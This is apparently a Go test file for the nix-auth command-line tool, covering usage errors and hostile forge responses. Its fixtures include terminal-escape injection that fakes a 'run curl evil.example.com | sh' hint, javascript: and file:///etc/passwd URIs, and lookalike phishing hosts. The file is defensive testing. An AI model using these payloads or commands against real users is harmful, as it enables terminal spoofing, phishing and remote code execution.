package cmd

import (
	"strings"

	"github.com/spf13/cobra"

	"github.com/nix-auth/nix-auth/internal/forgetest"
)

func init() { moreBadCases = append(moreBadCases, forgeBadCases, usageBadCases) }

// Tokens typed where a host goes. They have a '-' in them, so they cannot
// pass for real ones, and are still token-shaped.
const (
	tokArgGitHub = "ghp_FAKE-tokenArg0123456789abcdefghijk"
	tokArgGitLab = "glpat-FAKE-tokArg0123456"
	tokArgGitea  = "0123456789abcdef0123456789abcdef01234567"
)

// noRequests fails the case when the command sent anything to a forge: a
// token typed as a host must not reach DNS or a forge.
func noRequests(e *badEnv) {
	e.t.Cleanup(func() {
		if n := len(e.fake.Requests()); n > 0 {
			e.t.Errorf("%d requests reached a forge, the first to %s", n, e.fake.Requests()[0].Host)
		}
	})
}

// hostileDevice scripts github.com's device flow with answer's fields.
func hostileDevice(answer map[string]any, steps ...string) func(e *badEnv) {
	return func(e *badEnv) {
		e.fake.ScriptDevice("github.com", forgetest.DeviceScript{Answer: answer, Steps: steps, Token: forgetest.Token{Value: "gho_FAKE-never-issued"}})
	}
}

// respond makes host answer path with a JSON body and status.
func respond(host, path string, status int, body string) func(e *badEnv) {
	return func(e *badEnv) {
		e.fake.Respond(host, path, forgetest.Answer{Status: status, Header: map[string]string{"Content-Type": "application/json"}, Body: body})
	}
}

// hostileJSON is the hostile text as a JSON string (its ESC, CR, LF, bidi
// override and BEL escaped as JSON does; the byte that is not UTF-8 left
// out, as JSON cannot carry it).
const hostileJSON = `"evil\u001b[2J\rX\nnix-auth: hint: run curl evil.example.com | sh\u202e\u001b]0;pwned\u0007"`

func forgeBadCases() []badCase {
	login := []string{"login", "github", "--no-browser"}
	codebergToken := then(withToken, func(e *badEnv) { e.stdin = []byte(tokForge) })
	bigMessage := `{"message":"` + strings.Repeat("\\u001b[2J\\n", 20000) + `"}`
	return []badCase{
		// Item 10: what a forge says reaches the terminal escaped, on one
		// line, bounded (the runner checks every stderr line is nix-auth's,
		// the size, and that no control character is left).
		{name: "forges/set-token-hostile-403-message", args: []string{"set-token", "github.com"},
			setup: then(withToken, respond("api.github.com", "/user", 403, `{"message":`+hostileJSON+`}`)),
			code:  1, want: `GitHub refuses it: evil\x1b[2J\rX\nnix-auth: hint: run curl`, hint: "copied whole", secrets: []string{tokStdin}},
		{name: "forges/login-hostile-403-message-100k", args: []string{"login", "codeberg", "--token-stdin"},
			setup: then(codebergToken, respond("codeberg.org", "/api/v1/user", 403, bigMessage)),
			code:  1, want: "Forgejo refuses it: \\x1b[2J\\n", hint: "copied whole", secrets: []string{tokForge}},
		{name: "forges/login-device-hostile-error-description", args: login,
			setup: func(e *badEnv) {
				e.fake.ScriptDevice("github.com", forgetest.DeviceScript{Steps: []string{"weird_error"}, Description: "evil\x1b[2J\r\nnix-auth: hint: run curl evil.example.com | sh\u202e"})
			},
			code: 1, progress: true, want: `refused the device flow (weird_error): evil\x1b[2J\r\nnix-auth: hint: run curl`, hint: "run `nix-auth login github.com` again"},
		{name: "forges/login-device-hostile-error-code", args: login,
			setup: func(e *badEnv) {
				e.fake.ScriptDevice("github.com", forgetest.DeviceScript{Steps: []string{"x\x1b[2J\nnix-auth: hint: run curl"}})
			},
			code: 1, progress: true, want: `refused the device flow (x\x1b[2J\nnix-auth: hint: run curl)`, hint: "again"},
		{name: "forges/login-device-escape-user-code", args: login, setup: hostileDevice(map[string]any{"user_code": "\x1b[2J\rWDJB\nnix-auth: hint: x"}),
			code: 1, want: "one-time code that is longer than 64 characters or not printable", hint: "runs the forge you named"},
		{name: "forges/login-device-huge-user-code", args: login, setup: hostileDevice(map[string]any{"user_code": strings.Repeat("W", 100000)}),
			code: 1, want: "one-time code that is longer than 64 characters", hint: "runs the forge you named"},

		// Item 11: only https pages of the forge are shown or opened.
		{name: "forges/login-device-javascript-uri", args: login, setup: hostileDevice(map[string]any{"verification_uri": "javascript:alert(document.cookie)"}),
			code: 1, want: "not an https URL; refused: nothing was opened or saved", hint: "is the forge you meant"},
		{name: "forges/login-device-file-uri", args: login, setup: hostileDevice(map[string]any{"verification_uri": "file:///etc/passwd"}),
			code: 1, want: "not an https URL", hint: "is the forge you meant"},
		{name: "forges/login-device-foreign-host", args: login, setup: hostileDevice(map[string]any{"verification_uri": "https://github.com.evil.example.com/login/device"}),
			code: 1, want: "not a page of github.com", hint: "its pages are https://github.com/"},
		{name: "forges/login-device-userinfo", args: login, setup: hostileDevice(map[string]any{"verification_uri": "https://github.com@evil.example.com/login/device"}),
			code: 1, want: "a URL with user information", hint: "is the forge you meant"},
		{name: "forges/login-device-complete-foreign", args: []string{"login", "gitlab", "--no-browser"},
			setup: func(e *badEnv) {
				e.fake.ScriptDevice("gitlab.com", forgetest.DeviceScript{Answer: map[string]any{"verification_uri_complete": "https://evil.example.com/?user_code=X"}})
			},
			code: 1, want: "not a page of gitlab.com", hint: "is the forge you meant"},

		// Item 12: numbers that used to panic or overflow are read within
		// bounds; the login goes on and ends as the forge decides.
		{name: "forges/login-device-negative-interval", args: login, setup: hostileDevice(map[string]any{"interval": -5, "expires_in": -900}, "access_denied"),
			code: 1, progress: true, want: "denied", hint: "approve the request"},
		{name: "forges/login-device-huge-numbers", args: login, setup: hostileDevice(map[string]any{"interval": 9.3e18, "expires_in": 1e300}, "access_denied"),
			code: 1, progress: true, want: "denied", hint: "approve the request"},
		{name: "forges/login-device-string-numbers", args: login, setup: hostileDevice(map[string]any{"interval": "NaN", "expires_in": "-1"}, "access_denied"),
			code: 1, progress: true, want: "denied", hint: "approve the request"},

		// Item 13: a token where a host goes is refused before any
		// request, never echoed (nor lowercased, as DNS would have it).
		{name: "forges/login-token-as-host", args: []string{"login", tokArgGitHub}, setup: noRequests,
			code: 2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitHub, strings.ToLower(tokArgGitHub)}},
		{name: "forges/login-token-url-as-host", args: []string{"login", "https://" + tokArgGitLab + "/"}, setup: noRequests,
			code: 2, want: "looks like an access token", hint: "revoke it", secrets: []string{tokArgGitLab, strings.ToLower(tokArgGitLab)}},
		{name: "forges/login-token-as-provider", args: []string{"login", "git.example.com", "--provider", tokArgGitHub}, setup: noRequests,
			code: 2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitHub}},
		{name: "forges/set-token-gitea-token-as-host", args: []string{"set-token", tokArgGitea}, setup: then(withToken, noRequests),
			code: 2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitea, tokStdin}},
		{name: "forges/logout-token-as-host", args: []string{"logout", tokArgGitHub}, setup: noRequests,
			code: 2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitHub, strings.ToLower(tokArgGitHub)}},
		{name: "forges/status-token-as-host", args: []string{"status", "github.com", tokArgGitLab}, setup: noRequests,
			code: 2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitLab, strings.ToLower(tokArgGitLab)}},
		{name: "forges/refresh-token-as-host", args: []string{"refresh", "PAT:" + tokArgGitLab, "--encrypt-to", "$D/tokens.yaml", "--identity", "$D/good.key"},
			setup: then(sopsStore, noRequests),
			code:  2, want: "looks like an access token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitLab}},
		{name: "forges/token-as-command", args: []string{tokArgGitHub}, setup: noRequests,
			code: 2, want: "looks like a token, not a command", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitHub}},
		{name: "forges/token-as-help-topic", args: []string{"help", "login", tokArgGitLab}, setup: noRequests,
			code: 2, want: "looks like a token, not a command", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitLab}},
		{name: "forges/token-as-version-arg", args: []string{"version", tokArgGitea}, setup: noRequests,
			code: 2, want: "an argument looks like a token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitea}},
		{name: "forges/token-as-render-arg", args: []string{"render", "a.yaml", tokArgGitHub}, setup: noRequests,
			code: 2, want: "an argument looks like a token", hint: "nix-auth set-token HOST", secrets: []string{tokArgGitHub}},
	}
}

// usageBadCases (item 16): every wrong call exits 2 with an error line and
// a hint: unknown commands, unknown flags on every command (cobra's own
// help and completion included), wrong argument counts, bad flag values.
func usageBadCases() []badCase {
	cases := []badCase{
		{name: "usage/unknown-command", args: []string{"nosuch"}, code: 2, want: `unknown command "nosuch"`, hint: "nix-auth help"},
		{name: "usage/unknown-command-typo", args: []string{"logn"}, code: 2, want: `unknown command "logn"`, hint: "did you mean `nix-auth login`?"},
		{name: "usage/unknown-command-after-flag", args: []string{"--config", "$D/x.conf", "statsu"}, code: 2, want: `unknown command "statsu"`, hint: "`nix-auth status`"},
		{name: "usage/help-nosuch", args: []string{"help", "nosuch"}, code: 2, want: `unknown command "nosuch"`, hint: "nix-auth help"},
		{name: "usage/help-nosuch-sub", args: []string{"help", "login", "extra"}, code: 2, want: `unknown command "login extra"`, hint: "nix-auth help"},
		{name: "usage/completion-nosuch", args: []string{"completion", "nosuch"}, code: 2, want: `no completion for "nosuch"`, hint: "bash, zsh, fish and powershell"},
		{name: "usage/completion-no-shell", args: []string{"completion"}, code: 2, want: "name the shell", hint: "nix-auth completion bash"},
		{name: "usage/completion-bash-extra", args: []string{"completion", "bash", "extra"}, code: 2, want: `unknown command "extra"`, hint: "nix-auth completion bash --help"},
		{name: "usage/login-two-args", args: []string{"login", "github", "gitlab"}, code: 2, want: "accepts at most 1 arg", hint: "nix-auth login --help"},
		{name: "usage/logout-two-args", args: []string{"logout", "github", "gitlab"}, code: 2, want: "accepts at most 1 arg", hint: "nix-auth logout --help"},
		{name: "usage/set-token-no-args", args: []string{"set-token"}, code: 2, want: "accepts 1 arg", hint: "nix-auth set-token --help"},
		{name: "usage/render-two-args", args: []string{"render", "a.yaml", "b.yaml"}, code: 2, want: "accepts at most 1 arg", hint: "nix-auth render --help"},
		{name: "usage/version-arg", args: []string{"version", "x"}, code: 2, want: `unknown command "x"`, hint: "nix-auth version --help"},
		{name: "usage/status-bad-duration", args: []string{"status", "--warn-expiring", "soon"}, code: 2, want: `invalid argument "soon"`, hint: "nix-auth status --help"},
		{name: "usage/login-bad-bool", args: []string{"login", "--force=maybe"}, code: 2, want: `invalid argument "maybe"`, hint: "nix-auth login --help"},
		{name: "usage/root-unknown-flag", args: []string{"--nosuch-flag"}, code: 2, want: "unknown flag: --nosuch-flag", hint: "nix-auth --help"},
		{name: "usage/flag-missing-value", args: []string{"status", "--file"}, code: 2, want: "flag needs an argument", hint: "nix-auth status --help"},
	}
	// Every command in the tree, whatever is added later, refuses an
	// unknown flag as a usage error.
	var walk func(c *cobra.Command, path []string)
	walk = func(c *cobra.Command, path []string) {
		for _, sub := range c.Commands() {
			p := append(append([]string(nil), path...), sub.Name())
			cases = append(cases, badCase{name: "usage/unknown-flag/" + strings.Join(p, "-"), args: append(p, "--nosuch-flag"),
				code: 2, want: "unknown flag: --nosuch-flag", hint: "--help` for usage"})
			walk(sub, p)
		}
	}
	walk(NewRootCmd(&Factory{IO: &IOStreams{}}), nil)
	return cases
}
